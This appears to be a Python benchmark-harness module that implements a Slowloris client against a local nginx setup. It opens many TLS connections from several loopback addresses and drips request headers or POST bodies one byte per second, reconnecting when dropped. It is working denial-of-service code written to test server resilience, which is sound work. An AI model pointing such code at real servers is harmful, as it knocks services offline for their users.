"""Slowloris: clients that say a byte a second, and come back when they are cut off."""

import asyncio
import itertools
import ssl
from contextlib import suppress

from benchmarks.harness.nginx import NAME

BYTE_SECONDS = 1.0
ATTACKERS = 4
# Not all at once: it is their lasting that is measured, and not their handshakes.
OPENING_SECONDS = 10
HEAD = b"GET /api/v1/items HTTP/1.1\r\nHost: localhost\r\nX-Filler: " + b"a" * 500
BODY = (
    b"POST /api/v1/auth/token HTTP/1.1\r\nHost: localhost\r\n"
    b"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 1000\r\n\r\n"
)


class Slowloris:
    """Half of them are slow with the header, half with the body."""

    def __init__(self, port: int, tls: ssl.SSLContext, count: int) -> None:
        self.count = count
        self.reopened = 0
        self._port = port
        self._tls = tls
        self._opened = 0
        self._all_opened = asyncio.Event()
        self._tasks: list[asyncio.Task[None]] = []

    async def open(self) -> None:
        """Return when all of them are connected."""
        self._tasks = [asyncio.create_task(self._live(number)) for number in range(self.count)]
        await self._all_opened.wait()

    async def close(self) -> None:
        for task in self._tasks:
            task.cancel()
        await asyncio.gather(*self._tasks, return_exceptions=True)

    async def _live(self, number: int) -> None:
        await asyncio.sleep(number / self.count * OPENING_SECONDS)
        for life in itertools.count():
            self.reopened += life > 0
            with suppress(OSError, EOFError):
                await self._drip(number)

    async def _drip(self, number: int) -> None:
        reader, writer = await asyncio.open_connection(
            "127.0.0.1",
            self._port,
            ssl=self._tls,
            server_hostname=NAME,
            local_addr=(f"127.0.1.{number % ATTACKERS + 1}", 0),
        )
        self._opened += 1
        if self._opened == self.count:
            self._all_opened.set()
        try:
            if number % 2:
                writer.write(BODY)
            for byte in HEAD if number % 2 == 0 else itertools.repeat(ord("a")):
                writer.write(bytes([byte]))
                await writer.drain()
                await asyncio.sleep(BYTE_SECONDS)
                if reader.at_eof():
                    return
        finally:
            writer.transport.abort()
